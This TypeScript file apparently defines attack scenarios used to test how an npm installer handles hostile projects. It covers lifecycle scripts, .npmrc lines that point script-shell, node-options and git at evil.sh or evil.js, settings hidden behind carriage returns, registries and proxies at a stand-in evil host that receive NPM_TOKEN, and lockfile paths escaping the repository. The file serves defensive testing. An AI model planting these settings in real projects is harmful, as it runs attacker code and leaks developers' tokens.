// Settings, scripts and sources of npm projects.

import {
  type Attack,
  evilCode,
  evilScript,
  type Files,
  json,
  manifest,
  npmLock,
  type Scene,
  touch,
  variable,
} from './attack.ts'

const events = [
  'preinstall',
  'install',
  'postinstall',
  'prepublish',
  'preprepare',
  'prepare',
  'postprepare',
]
const scripts = (scene: Scene): object =>
  Object.fromEntries(events.map((name) => [name, touch(scene)]))

const withNpmrc =
  (lines: (scene: Scene) => readonly string[]): Attack['files'] =>
  (scene) => ({
    'package.json': manifest({ scripts: { postinstall: 'true' } }),
    'package-lock.json': npmLock({}, { hasInstallScript: true }),
    '.npmrc': `${lines(scene).join('\n')}\n`,
    'evil.sh': { executable: evilScript(scene) },
    'evil.js': evilCode(scene),
  })

const source = (resolved: string | undefined, more: object = {}): Files => ({
  'package.json': manifest({ dependencies: { a: '1.0.0' } }),
  'package-lock.json': npmLock(
    {
      'node_modules/a': {
        version: '1.0.0',
        ...(resolved === undefined ? {} : { resolved }),
        ...more,
      },
    },
    { dependencies: { a: '1.0.0' } },
  ),
})

const plain = ['npm', 'install', '--no-audit', '--no-fund', '--fetch-retries=0']

export const npmSettingsAttacks: readonly Attack[] = [
  {
    name: 'lifecycle scripts of the project',
    manager: 'npm',
    files: (scene) => ({
      'package.json': manifest({ scripts: scripts(scene) }),
      'package-lock.json': npmLock(),
    }),
    ends: 'installed',
    control: plain,
  },
  {
    name: 'lifecycle scripts of a workspace',
    manager: 'npm',
    files: (scene) => ({
      'package.json': manifest({ workspaces: ['packages/*'] }),
      'packages/w/package.json': json({ name: 'w', version: '1.0.0', scripts: scripts(scene) }),
      'package-lock.json': npmLock(
        {
          'node_modules/w': { resolved: 'packages/w', link: true },
          'packages/w': { version: '1.0.0' },
        },
        { workspaces: ['packages/*'] },
      ),
    }),
    ends: 'installed',
    control: plain,
  },
  {
    name: 'a shell for scripts, and options for Node',
    manager: 'npm',
    files: withNpmrc(() => [
      'ignore-scripts=false',
      'script-shell=./evil.sh',
      'node-options=--require ./evil.js',
      'git=./evil.sh',
      'onload-script=./evil.js',
    ]),
    ends: 'installed',
    control: plain,
  },
  {
    name: 'settings behind a lone carriage return',
    manager: 'npm',
    files: withNpmrc(() => ['legacy-peer-deps=true\rscript-shell=./evil.sh\rignore-scripts=false']),
    ends: 'installed',
    control: plain,
  },
  {
    name: 'a prefix, a cache and configuration files elsewhere',
    manager: 'npm',
    files: withNpmrc(({ neighbor }) => [
      `prefix=${neighbor}`,
      `cache=${neighbor}/cache`,
      `globalconfig=${neighbor}/npmrc`,
      `userconfig=${neighbor}/npmrc`,
      `logs-dir=${neighbor}/logs`,
    ]),
    ends: 'installed',
  },
  {
    name: 'a registry of the project with a token from the environment',
    manager: 'npm',
    files: (scene) => ({
      'package.json': manifest({ dependencies: { a: '1.0.0' } }),
      '.npmrc': `registry=${scene.evil}\n${scene.evil.replace('http:', '')}:_authToken=${variable('NPM_TOKEN')}\n`,
      'package-lock.json': npmLock(),
    }),
    ends: 'refused',
    says: /registry/,
    control: plain,
    isQuick: true,
  },
  {
    name: 'a token in the URL of a registry',
    manager: 'npm',
    files: (scene) => ({
      'package.json': manifest({ dependencies: { a: '1.0.0' } }),
      '.npmrc': `registry=${scene.evil}${variable('NPM_TOKEN')}/\n`,
      'package-lock.json': npmLock(),
    }),
    ends: 'refused',
    says: /registry/,
    control: plain,
  },
  {
    name: 'a registry of the project for one scope',
    manager: 'npm',
    files: (scene) => ({
      'package.json': manifest({ dependencies: { '@acme/a': '1.0.0' } }),
      '.npmrc': `@acme:registry=${scene.evil}\n${scene.evil.replace('http:', '')}:_authToken=${variable('NPM_TOKEN')}\n`,
      'package-lock.json': npmLock(),
    }),
    ends: 'refused',
    says: /@acme:registry/,
    control: plain,
  },
  {
    name: 'a proxy of the project',
    manager: 'npm',
    files: (scene) => ({
      'package.json': manifest({ dependencies: { a: '1.0.0' } }),
      '.npmrc': `proxy=${scene.evil}\nhttps-proxy=${scene.evil}\nnoproxy=\ncafile=./ca.pem\nstrict-ssl=false\n`,
      'package-lock.json': npmLock({}, { dependencies: { a: '1.0.0' } }),
    }),
    ends: 'refused',
    control: plain,
  },
  {
    name: 'a package from git',
    manager: 'npm',
    files: () => source('git+ssh://git@example.com/a.git#0123456789012345678901234567890123456789'),
    ends: 'refused',
  },
  {
    name: 'a git repository beside it, and a program that fetches it',
    manager: 'npm',
    files: (scene) => ({
      'package.json': manifest({ dependencies: { a: `git+file://${scene.neighbor}` } }),
      'package-lock.json': npmLock(
        { 'node_modules/a': { version: '1.0.0', resolved: `git+file://${scene.neighbor}#main` } },
        { dependencies: { a: `git+file://${scene.neighbor}` } },
      ),
      '.npmrc': 'git=./evil.sh\n',
      'evil.sh': { executable: evilScript(scene) },
    }),
    ends: 'refused',
    control: plain,
    isQuick: true,
  },
  {
    name: 'a package from another URL',
    manager: 'npm',
    files: (scene) => source(`${scene.evil}a.tgz`),
    ends: 'refused',
    control: ['npm', 'ci', '--no-audit', '--fetch-retries=0'],
    isQuick: true,
  },
  {
    name: 'a URL that only starts like the registry',
    manager: 'npm',
    files: (scene) =>
      source(`${scene.registry.replace(/\/$/, '')}@${scene.evil.slice('http://'.length)}a.tgz`),
    ends: 'refused',
    control: ['npm', 'ci', '--no-audit', '--fetch-retries=0'],
  },
  {
    name: 'a package from outside of the repository',
    manager: 'npm',
    files: (scene) => source(`file:${scene.neighbor}`),
    ends: 'refused',
    isQuick: true,
  },
  {
    name: 'a symlink to a folder outside of the repository',
    manager: 'npm',
    files: () => source('../neighbor', { link: true }),
    ends: 'refused',
  },
  {
    name: 'a package whose path in the lockfile is outside',
    manager: 'npm',
    files: () => ({
      'package.json': manifest({ dependencies: { a: 'file:../neighbor' } }),
      'package-lock.json': npmLock({ '../neighbor': { version: '1.0.0' } }),
    }),
    ends: 'refused',
  },
  {
    name: 'a path in the lockfile that escapes through node_modules',
    manager: 'npm',
    files: (scene) => ({
      'package.json': manifest({ dependencies: { a: '1.0.0' } }),
      'package-lock.json': npmLock({
        'node_modules/../../../neighbor/node_modules/a': {
          version: '1.0.0',
          resolved: `${scene.registry}a/-/a-1.0.0.tgz`,
        },
      }),
    }),
    ends: 'refused',
  },
]
